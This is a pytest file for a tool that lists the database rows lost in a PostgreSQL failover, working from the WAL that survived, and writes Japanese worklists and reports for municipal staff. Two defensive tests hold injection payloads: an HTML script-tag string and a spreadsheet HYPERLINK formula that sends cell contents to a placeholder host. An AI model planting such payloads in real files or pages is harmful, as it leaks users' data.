"""What a failover lost of a postgres-wal system, from the WAL that survived the primary.

A real primary archives through ``bcpctl wal push``; the archive is cut (the offsite's last WAL),
the primary keeps committing (the transactions a failover loses), its ``pg_wal`` is copied (what
survived) and it dies. The worklist must list exactly the rows those transactions wrote, each
with its town, 業務 and commit time, never a 個人番号; hostile survivor sets are named and skipped.
"""

from __future__ import annotations

import shutil
import struct
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
import yaml
from pydantic import ValidationError

from backup.walseq import parse_segment, segment_name
from dc.config import System
from dc.sourcespec import Reentry
from failover.report_html import render_html
from failover.report_ja import render_ja
from failover.reports import report_tenants
from failover.results import SystemResult, to_document
from failover.worklist import failover_losses, write_worklist
from tests.backup.walsite import SYSTEM
from tests.conftest import Cli
from tests.failover.documents import document
from tests.failover.lostsite import SECRET, Disaster, failover_run, with_survivors
from tests.servers.sshd import SshServer
from tests.servers.storage import sftp_url

pytestmark = pytest.mark.postgres


def _listed(doc: dict[str, Any]) -> set[tuple[str, str, int, int]]:
    return {(r["operation"], r["table"], int(r["fields"]["id"]), r["xid"]) for r in doc["rows"]}


def _variant(disaster: Disaster, tmp: Path) -> Path:
    copy = tmp / "pg_wal"
    shutil.copytree(disaster.survivors / "pg_wal", copy)
    return copy


def test_the_worklist_lists_exactly_what_the_primary_committed_after_the_archive(
    disaster: Disaster, tmp_path: Path
) -> None:
    done, doc = disaster.lost(disaster.survivors / "pg_wal", "--out", str(tmp_path / "out"))
    expected = set().union(*disaster.rows)
    assert _listed(doc) == expected
    ours = {xid for _, _, _, xid in expected}
    touching = {t["xid"] for t in doc["transactions"] if {"public.idou", "public.shuno"} & set(t["tables"])}
    assert touching == ours
    towns = {(r["table"], int(r["fields"]["id"])): (r["town"], r["business"]) for r in doc["rows"]}
    assert towns[("public.shuno", 1)] == ("那珂市", "税 収納")
    assert {t for t, b in towns.values() if b == "住民基本台帳 異動"} == {"五霞町", "那珂市"}
    assert all(r["committed_at"] for r in doc["rows"])
    assert doc["survived_lsn"] is not None and doc["missing"] is None and doc["warnings"] == []
    assert all("recycled" in s["reason"] for s in doc["skipped"]), doc["skipped"]
    files = [Path(p) for p in doc["files"]]
    assert {p.suffix for p in files} == {".csv", ".xlsx"}
    csv_text = files[0].read_text(encoding="utf-8-sig")
    assert len(csv_text.splitlines()) == len(expected) + 1 and "住民基本台帳 異動" in csv_text
    import openpyxl

    book = openpyxl.load_workbook(files[1])
    assert set(book.sheetnames) == {"五霞町", "那珂市"}
    cells = [str(c.value) for s in book.worksheets for row in s.iter_rows() for c in row]
    for text in (done.stdout, csv_text, "".join(cells)):
        assert SECRET not in text
    human = Cli(disaster.site.relay.env)(
        "failover",
        "lost",
        SYSTEM,
        "--config",
        str(disaster.site.config),
        "--surviving-wal",
        str(disaster.survivors / "pg_wal"),
    )
    assert human.returncode == 0 and "再入力作業一覧" in human.stdout and SECRET not in human.stdout


def _sysid(disaster: Disaster) -> int:
    with (disaster.survivors / "pg_wal" / disaster.segments[0]).open("rb") as f:
        f.seek(24)
        return int(struct.unpack("<Q", f.read(8))[0])


def _patch(segment: Path, offset: int, value: int, fmt: str) -> None:
    with segment.open("r+b") as f:
        f.seek(offset)
        f.write(struct.pack(fmt, value))


def test_a_truncated_or_missing_segment_keeps_the_run_before_it_and_names_the_rest(
    disaster: Disaster, tmp_path: Path
) -> None:
    for damage in ("truncate", "remove"):
        survivors = _variant(disaster, tmp_path / damage)
        second = survivors / disaster.segments[1]
        if damage == "truncate":
            second.write_bytes(second.read_bytes()[: 1 << 20])
        else:
            second.unlink()
        _, doc = disaster.lost(survivors)
        assert _listed(doc) == disaster.rows[0], damage
        reasons = {Path(s["path"]).name: s["reason"] for s in doc["skipped"]}
        assert doc["missing"] == disaster.segments[1]
        assert "after a hole" in reasons[disaster.segments[2]]
        if damage == "truncate":
            assert "truncated" in reasons[disaster.segments[1]]


def test_a_damaged_record_ends_the_list_where_replay_ended_and_says_so(disaster: Disaster, tmp_path: Path) -> None:
    survivors = _variant(disaster, tmp_path)
    with (survivors / disaster.segments[1]).open("r+b") as f:
        f.seek(0x30)  # inside the second segment's first record (after its 40-byte long header)
        f.write(b"\xff" * 64)
    _, doc = disaster.lost(survivors)
    assert _listed(doc) == disaster.rows[0]
    assert any(disaster.segments[1] in w and "damaged" in w for w in doc["warnings"]), doc["warnings"]
    human = Cli(disaster.site.relay.env)(
        "failover", "lost", SYSTEM, "--config", str(disaster.site.config), "--surviving-wal", str(survivors)
    )
    # the lost-work list is Japanese whatever the locale, its warnings too (--json keeps the English)
    assert human.returncode == 0 and "壊れたレコード" in human.stdout and disaster.segments[1] in human.stdout


def test_a_foreign_segment_is_named_and_skipped(disaster: Disaster, tmp_path: Path) -> None:
    survivors = _variant(disaster, tmp_path)
    # another system's segment in the place of the third: its header names another system id
    _patch(survivors / disaster.segments[2], 24, 1234567, "<Q")
    _, doc = disaster.lost(survivors)
    reasons = {Path(s["path"]).name: s["reason"] for s in doc["skipped"]}
    assert "another database system" in reasons[disaster.segments[2]]
    assert _listed(doc) == disaster.rows[0] | disaster.rows[1]
    # a segment of another timeline under this timeline's name
    _patch(survivors / disaster.segments[2], 24, _sysid(disaster), "<Q")
    _patch(survivors / disaster.segments[2], 4, 7, "<I")
    _, doc = disaster.lost(survivors)
    reasons = {Path(s["path"]).name: s["reason"] for s in doc["skipped"]}
    assert "timeline 7" in reasons[disaster.segments[2]]
    assert _listed(doc) == disaster.rows[0] | disaster.rows[1]
    # a foreign first segment: nothing continues the archive, the interval is stated
    _patch(survivors / disaster.segments[0], 24, 1234567, "<Q")
    _, doc = disaster.lost(survivors)
    assert doc["survived_lsn"] is None and doc["rows"] == []


def test_nothing_survived_states_the_lost_interval(disaster: Disaster, tmp_path: Path) -> None:
    (tmp_path / "empty").mkdir()
    declared = "2026-12-06T21:00:00+09:00"
    _, doc = disaster.lost(tmp_path / "empty", "--declared-at", declared)
    assert doc["survived_lsn"] is None and doc["rows"] == [] and doc["transactions"] == []
    assert doc["declared_at"] == declared and doc["recovered_to"]
    human = Cli(disaster.site.relay.env)(
        "failover",
        "lost",
        SYSTEM,
        "--config",
        str(disaster.site.config),
        "--surviving-wal",
        str(tmp_path / "empty"),
        "--declared-at",
        declared,
    )
    assert human.returncode == 0, human.stderr
    assert "すべて失われました" in human.stdout and declared in human.stdout and doc["recovered_to"] in human.stdout
    assert "2026-12-06 21:00:00 JST" in human.stdout.replace("\n", "")


@pytest.mark.sshd
def test_survivors_on_a_standby_reached_over_sftp(
    disaster: Disaster, tmp_path: Path, sshd_server: SshServer, sftp_env: dict[str, str]
) -> None:
    archive = tmp_path / "standby-archive"
    archive.mkdir()
    for name in disaster.segments:
        shutil.copyfile(disaster.survivors / "pg_wal" / name, archive / name)
    after = segment_name(1, parse_segment(disaster.segments[-1]).segno + 1)
    (archive / after).write_bytes(b"\0" * 100)  # cut short on its way to the standby
    _, doc = disaster.lost(sftp_url(sshd_server, archive), env=sftp_env)
    assert _listed(doc) == set().union(*disaster.rows)
    reasons = {s["path"].rsplit("/", 1)[-1]: s["reason"] for s in doc["skipped"]}
    assert "truncated: 100 bytes" in reasons[after]


def test_an_unknown_system_or_one_without_wal_is_one_clear_line(disaster: Disaster, tmp_path: Path) -> None:
    cli = Cli(disaster.site.relay.env)
    unknown = cli("failover", "lost", "nosuch", "--config", str(disaster.site.config))
    assert unknown.returncode == 2 and "unknown system 'nosuch'" in unknown.stderr
    assert len(unknown.stderr.strip().splitlines()) == 1
    raw = yaml.safe_load(disaster.site.config.read_text(encoding="utf-8"))
    raw["systems"]["goka-files"] = {"tenant": "goka", "business": "文書", "tier": 3,
                                    "source": {"kind": "path", "path": str(tmp_path)}}  # fmt: skip
    path = tmp_path / "bcpctl.yaml"
    path.write_text(yaml.safe_dump(raw, allow_unicode=True), encoding="utf-8")
    files = cli("failover", "lost", "goka-files", "--config", str(path))
    assert files.returncode == 2 and "not postgres-wal" in files.stderr
    assert len(files.stderr.strip().splitlines()) == 1


def test_a_worklist_may_never_name_kojin_bango_or_juminhyo_code() -> None:
    for column in ("kojin_bango", "juminhyo_code", "個人番号", "住民票コード"):
        with pytest.raises(ValidationError, match="may never appear"):
            Reentry(business="住民基本台帳 異動", fields=("id", column))


def test_the_failover_report_lists_each_towns_own_rows_or_the_lost_interval(disaster: Disaster, tmp_path: Path) -> None:
    declared = datetime.now(UTC)
    passed = SystemResult(SYSTEM, "goka", "住民基本台帳", 1, 1, 60, 3600, status="passed", source_kind="postgres-wal")
    passed.snapshot_time = declared - timedelta(seconds=30)
    for survivors in ([str(disaster.survivors / "pg_wal")], []):
        config, path = with_survivors(disaster, tmp_path / str(len(survivors)), survivors)
        losses, warnings = failover_losses(config, path, [passed], declared, None, *failover_run(config, declared))
        assert warnings == []
        doc = document(declared) | {"mode": "execute", "systems": [to_document(passed)], "lost": losses}
        report = render_ja(doc, "goka", "五霞町")
        assert SECRET not in report
        if survivors:
            assert "住民0-0" in report and "住民0-2" in report and "id=4" in report  # 五霞町's added and deleted rows
            assert "住民0-1" not in report and "amount=" not in report  # 那珂市's are in 那珂市's report only
            assert "不明です" in report
            # 那珂市 runs no system of its own here, yet types its rows again: its report lists them, only them
            assert report_tenants(doc) == ["goka", "naka"]
            naka = render_ja(doc, "naka", "那珂市")
            assert "住民0-1" in naka and "住民1-1" in naka and "amount=1000" in naka and SECRET not in naka
            assert "住民0-0" not in naka and "id=4" not in naka and "共同利用の 住民基本台帳" in naka
            ours = [r for r in losses[SYSTEM]["rows"] if r["tenant"] == "naka"]
            assert len(ours) == sum(1 for r in losses[SYSTEM]["rows"] if r["town"] == "那珂市") > 0
            problems = losses[SYSTEM]["warnings"]
            assert any("public.gone" in p for p in problems) and any("nosuch" in p for p in problems), problems
        else:
            assert losses[SYSTEM]["rows"] == [] and "すべて失われました" in report
            assert declared.isoformat() in report and passed.snapshot_time.isoformat() in report


def test_the_examples_reentry_snippet_is_a_valid_configuration() -> None:
    text = (Path(__file__).resolve().parents[2] / "examples" / "ibaraki.yaml").read_text(encoding="utf-8")
    start = text.index("  #   hitachiomiya-juki: {")
    lines = []
    for line in text[start:].splitlines():
        if not line.startswith("  #   "):
            break
        lines.append(line.removeprefix("  #   "))
    systems = yaml.safe_load("\n".join(lines))
    assert set(systems) == {"hitachiomiya-juki", "hitachiomiya-shuno"}
    for raw in systems.values():
        system = System.model_validate(raw)
        assert system.source.kind == "postgres-wal" and system.source.surviving_wal and system.reentry


def test_the_html_report_counts_each_towns_rows_and_escapes_what_survivors_said() -> None:
    hostile = '<script>alert(1)</script>"&'
    when = datetime(2026, 12, 6, 3, 14, 15, tzinfo=UTC)
    row = {"business": "住民基本台帳 異動", "town": "五霞町", "table": "public.idou", "operation": "追加", "xid": 7,
           "committed_at": when.isoformat(), "fields": {"name": hostile}}  # fmt: skip
    survived = {
        "system": SYSTEM, "tenant": "goka", "business": "住民基本台帳", "recovered_to": when.isoformat(),
        "recovered_lsn": "0/4000000", "declared_at": (when + timedelta(minutes=5)).isoformat(),
        "survived_to": (when + timedelta(seconds=40)).isoformat(), "survived_lsn": "0/6000000",
        "transactions": [{"xid": 7}], "rows": [row, row | {"town": hostile}], "missing": None,
        "skipped": [{"path": "/x", "reason": hostile}], "warnings": [], "files": [],
    }  # fmt: skip
    nothing = survived | {"system": "naka-juki", "survived_lsn": None, "survived_to": None, "rows": [], "skipped": []}
    html = render_html(document(when) | {"mode": "execute", "lost": {SYSTEM: survived, "naka-juki": nothing}}, {})
    assert hostile not in html and "&lt;script&gt;" in html
    assert "五霞町 1件" in html and "2026-12-06 12:14:55 JST" in html  # survived to, in JST
    assert "残存WALなし" in html and "2026-12-06 12:19:15 JST" in html  # the declared end of the lost interval
    assert "失われた処理" not in render_html(document(when), {})


def test_worklist_files_are_private_and_never_run_a_formula(tmp_path: Path) -> None:
    import openpyxl

    formula = '=HYPERLINK("http://example.invalid/?"&A1,"x")'
    row = {"business": "税 収納", "town": "五霞町", "table": "public.shuno", "operation": "追加", "xid": 9,
           "committed_at": "2026-12-06T03:14:15+00:00", "fields": {"id": "007", "note": formula}}  # fmt: skip
    doc = {"system": SYSTEM, "rows": [row, row | {"town": "a/b:c*[d]?"}, row | {"town": "=1+2"}]}
    csv_path, xlsx_path = write_worklist(doc, tmp_path)
    assert {p.stat().st_mode & 0o777 for p in (csv_path, xlsx_path)} == {0o600}
    assert "\n'=1+2," in csv_path.read_text(encoding="utf-8-sig")  # Excel shows it, never runs it
    book = openpyxl.load_workbook(xlsx_path)
    assert book.sheetnames == ["五霞町", "a_b_c__d__", "=1+2"]
    cells = [c for s in book.worksheets for r in s.iter_rows(min_row=2) for c in r]
    assert cells and all(c.data_type == "s" for c in cells)
    assert any(c.value == "id=007、note=" + formula for c in cells)
    with pytest.raises(ValidationError, match="may never appear"):
        Reentry(business="税 収納", fields=("KOJIN_BANGO",))
